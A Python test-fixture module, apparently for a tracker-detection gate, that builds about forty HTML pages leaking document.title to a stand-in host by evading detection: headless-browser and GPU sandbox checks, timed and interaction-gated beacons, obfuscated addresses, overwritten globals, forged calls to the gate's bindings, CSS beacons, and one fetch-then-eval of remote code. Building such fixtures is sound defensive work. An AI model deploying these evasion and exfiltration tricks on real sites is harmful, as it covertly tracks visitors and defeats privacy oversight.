"""Pages by which somebody tries to get a tracker past the gate: each is sent by a visitor's browser, in some way."""

from dataclasses import dataclass

SPY = "https://spy.tp.example/b"
_SEND = f"navigator.sendBeacon('{SPY}', document.title)"


@dataclass(frozen=True, slots=True, kw_only=True)
class Attack:
    """One page. `seen` tells whether the crawl sees the beacon; `read` whether the static stage names it by itself."""

    name: str
    what: str
    code: str
    seen: bool
    read: bool = True
    markup: str = ""

    def page(self) -> str:
        """Give the page's file."""
        return (
            f"<!doctype html><html lang=en><title>{self.name}</title><h1>Clinic</h1>{self.markup}"
            f"<script>{self.code}</script>"
        )


def _if(condition: str) -> str:
    return f"if ({condition}) {_SEND}"


_HUMAN = (
    "!navigator.webdriver && !/Headless/.test(navigator.userAgent) && navigator.plugins.length && window.chrome"
    " && navigator.languages.length && outerHeight && screen.width >= innerWidth"
)
_GPU = (
    "(() => { const g = document.createElement('canvas').getContext('webgl'); const e = g && "
    "g.getExtension('WEBGL_debug_renderer_info'); return e && "
    "!/SwiftShader|llvmpipe/i.test(g.getParameter(e.UNMASKED_RENDERER_WEBGL)) })()"
)

_WORKER = (
    'new Worker(URL.createObjectURL(new Blob(["const t = performance.now(); setInterval(() => { '
    f"if (performance.now() - t > 6e4) fetch('{SPY}') }}, 500)\"])))"
)
_SLEEPER = (
    'new SharedWorker(URL.createObjectURL(new Blob(["onconnect = () => setTimeout(() => '
    f"fetch('{SPY}', {{mode: 'no-cors'}}), 20000)\"])))"
)
_CLOCKS = f"setTimeout(() => Math.abs(new Event('x').timeStamp - performance.now()) < 500 && {_SEND}, 5000)"
_PARTS = (
    "const h = ['com', 'example', 'tp', 'spy'].slice(1).reverse().join('.'); "
    "new Image()['s' + 'rc'] = String.fromCharCode(104, 116, 116, 112, 115) + '://' + h + '/b'"
)
_FORGE = (
    "for (const n of Object.getOwnPropertyNames(window)) if (/pixelguard|binding/i.test(n)) { try { "
    "window[n](JSON.stringify({kind: 'none', url: ''})) } catch {} }; " + _SEND
)
_GLOBALS = (
    "const b = navigator.sendBeacon.bind(navigator); navigator.sendBeacon = () => true; "
    f"window.fetch = async () => new Response(''); b('{SPY}')"
)
_SCROLLED = f"addEventListener('scroll', () => addEventListener('pointermove', () => {_SEND}, {{once: true}}))"
_NATIVE = "['fetch', 'setTimeout'].every((n) => /native code/.test(window[n]))"
_TRUSTED = f"addEventListener('click', (event) => event.isTrusted && {_SEND})"
_OWN = "fetch('/metrics/x?v=2&tid=G-ABCDEF1234&en=page_view&cid=1.2&dl=' + encodeURIComponent(location.href))"
_TALL = "<div style='height: 4000px'></div><button type=button>More</button>"


def _attack(name: str, what: str, code: str, *, seen: bool, read: bool = True, markup: str = "") -> Attack:
    return Attack(name=name, what=what, code=code, seen=seen, read=read, markup=markup)


ATTACKS = (
    _attack("webdriver", "unless it sees a robot: `navigator.webdriver`, user agent, plugins", _if(_HUMAN), seen=True),
    _attack("robots", "at once; `noindex`, and `robots.txt` forbids everything", _SEND, seen=True,
            markup='<meta name=robots content="noindex, nofollow">'),
    _attack("host", "on the live host alone", _if("location.host === 'www.example.nhs.uk'"), seen=True),
    _attack("thirty", "after 30 seconds", f"setTimeout(() => {_SEND}, 30000)", seen=True),
    _attack("leave", "while the visitor leaves", f"addEventListener('pagehide', () => {_SEND})", seen=True),
    _attack("globals", "after it has overwritten `fetch`, `sendBeacon`", _GLOBALS, seen=True, read=False),
    _attack("forge", "after it has called the gate's own bindings with false messages", _FORGE, seen=True),
    _attack("parts", "to an address that is put together out of parts and codes", _PARTS, seen=True, read=False),
    _attack("answer", "what the first answer of its receiver says", f"fetch('{SPY}').then((r) => r.text()).then(eval)",
            seen=True),
    _attack("own", "to an own path that the server hands on, with a vendor's parameters", _OWN, seen=True, read=False),
    _attack("store", "from code in the folder's `node_modules`, which is not read as a file", "", seen=True, read=False,
            markup='<script src="/node_modules/spy/index.js"></script>'),
    _attack("copy", "when the visitor copies text", f"addEventListener('copy', () => {_SEND})", seen=True),
    _attack("print", "when the page is printed", f"addEventListener('beforeprint', () => {_SEND})", seen=True),
    _attack("edge", "when the pointer goes to the window's edge",
            f"document.addEventListener('mouseleave', () => {_SEND})", seen=True),
    _attack("away", "20 seconds after the visitor has gone to another tab",
            f"addEventListener('visibilitychange', () => document.hidden && setTimeout(() => {_SEND}, 20000))",
            seen=True),
    _attack("frame", "in a frame alone", "", seen=True,
            markup=f'<iframe srcdoc="<script>if (top !== self) {_SEND}</script>"></iframe>'),
    _attack("sleeper", "from a shared worker that has slept for 20 seconds", _SLEEPER, seen=True, read=False),
    _attack("sheet", "by a style sheet for print", "", seen=True,
            markup=f"<link rel=stylesheet media=print href='{SPY}'>"),
    _attack("tick", "by a style of a ticked box", "", seen=True,
            markup=f"<style>input:checked + i {{ background: url({SPY}) }}</style><input type=checkbox><i>x</i>"),
    _attack("picture", "by a picture that gets its address when the pointer is over it", "", seen=True,
            markup=f"<svg><image><set attributeName=href to='{SPY}' begin=mouseover /></image></svg>"),
    _attack("scroll", "once the visitor has scrolled, and then moved the pointer", _SCROLLED, seen=False, markup=_TALL),
    _attack("late", "after 90 seconds", f"setTimeout(() => {_SEND}, 90000)", seen=False),
    _attack("worker", "after a minute by the true clock, in a worker", _WORKER, seen=False),
    _attack("refresh", "by forwarding the page to a third party after ten seconds", "", seen=False,
            markup=f'<meta http-equiv=refresh content="10;url={SPY}">'),
    _attack("day", "on one day of the year", _if("/Feb 29/.test(new Date())"), seen=False),
    _attack("second", "on the second visit alone", f"if (localStorage.a) {_SEND}; localStorage.a = 1", seen=False),
    _attack("dice", "to one visitor in a thousand", _if("Math.random() < 0.001"), seen=False),
    _attack("gpu", "where a true graphics card draws", _if(_GPU), seen=False),
    _attack("touch", "from a telephone alone", _if("navigator.maxTouchPoints && innerWidth < 600"), seen=False),
    _attack("place", "where the visitor tells their place", f"navigator.geolocation.getCurrentPosition(() => {_SEND})",
            seen=False),
    _attack("came", "to who came from a search engine", _if("/google|bing/.test(document.referrer)"), seen=False),
    _attack("native", "unless a function of the browser's was put in another's place", _if(_NATIVE), seen=False),
    _attack("trusted", "when a person presses a button, and no script", _TRUSTED, seen=False,
            markup="<button type=button>More</button>"),
    _attack("clocks", "unless the time of events and the page's clock differ", _CLOCKS, seen=False),
    _attack("zone", "outside of one time zone", _if("!/London/.test(Intl.DateTimeFormat().resolvedOptions().timeZone)"),
            seen=False),
    _attack("back", "when the visitor comes back to the page", f"onpageshow = (event) => event.persisted && {_SEND}",
            seen=False),
    _attack("hover", "by a style of what the pointer is over", "", seen=False,
            markup=f"<style>p:hover {{ background: url({SPY}) }}</style><p>Text</p>"),
    _attack("printed", "by a style for print", "", seen=False,
            markup=f"<style>@media print {{ body {{ background: url({SPY}) }} }}</style>"),
    _attack("narrow", "by a style for narrow windows", "", seen=False,
            markup=f"<style>@media (max-width: 600px) {{ body {{ background: url({SPY}) }} }}</style>"),
    _attack("dark", "by a style for who prefers it dark", "", seen=False,
            markup=f"<style>@media (prefers-color-scheme: dark) {{ body {{ background: url({SPY}) }} }}</style>"),
    _attack("quiet", "to an own path that the server hands on, with nothing that is any vendor's",
            "fetch('/metrics/z', {method: 'POST', body: document.title})", seen=False, read=False),
)  # fmt: skip
FILES = {
    "robots.txt": "User-agent: *\nDisallow: /\n",
    "node_modules/spy/index.js": _SEND,
}
